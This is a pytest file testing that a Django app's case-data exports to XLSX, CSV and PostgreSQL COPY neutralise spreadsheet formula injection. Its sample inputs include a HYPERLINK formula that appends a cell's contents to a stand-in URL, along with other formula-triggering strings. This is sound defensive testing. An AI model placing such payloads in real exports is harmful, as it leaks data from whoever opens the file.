"""Every export writes text as text (cases/spreadsheets.py): a cause of action that looks like a
formula stays the words it is, in XLSX and in CSV."""

import csv
import datetime
import io

import pytest
from django.db import connection
from openpyxl import Workbook, load_workbook

from cases.spreadsheets import copy_csv, csv_writer, xlsx_append

FORMULA = '=HYPERLINK("http://x/?"&A2,"详情")'
TEXTS = [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "#N/A"]


def assert_no_formulas(data: bytes, *texts: str) -> None:
    """No cell of the workbook is a formula (or an error), and each of `texts` is in it as is."""
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    for text in texts:
        assert text in values


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s")
    xlsx_append(sheet, [*TEXTS, -5, -1.5, datetime.date(2025, 1, 2), None])
    buffer = io.BytesIO()
    book.save(buffer)
    # XML reads a carriage return back as a line feed: that cell is checked for its type only.
    assert_no_formulas(buffer.getvalue(), *(text for text in TEXTS if "\r" not in text))
    [row] = load_workbook(io.BytesIO(buffer.getvalue()))["s"].iter_rows()
    assert [cell.value for cell in row][len(TEXTS) : len(TEXTS) + 2] == [-5, -1.5]
    assert row[len(TEXTS)].data_type == "n"


def test_xlsx_drops_control_characters_instead_of_failing():
    book = Workbook()
    xlsx_append(book.active, ["民间\x01借贷"])
    assert book.active["A1"].value == "民间借贷"


def test_csv_prefixes_a_quote_to_formula_like_text_only():
    stream = io.StringIO()
    csv_writer(stream).writerow([*TEXTS, "民间借贷", -5, "a=b"])
    [row] = csv.reader(io.StringIO(stream.getvalue(), newline=""))
    assert row == [*("'" + text for text in TEXTS[:-1]), "#N/A", "民间借贷", "-5", "a=b"]


@pytest.mark.django_db
def test_copy_csv_makes_postgresql_csv_safe():
    stream = io.StringIO()
    with connection.cursor() as cursor:
        copy_csv(
            cursor.cursor,
            """COPY (SELECT * FROM (VALUES (1, '=1+1', 'a,"b"'), (2, '民间借贷', '-x'))
               AS t(n, a, b)) TO STDOUT WITH (FORMAT csv)""",
            stream,
        )
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [
        ["1", "'=1+1", 'a,"b"'],
        ["2", "民间借贷", "'-x"],
    ]
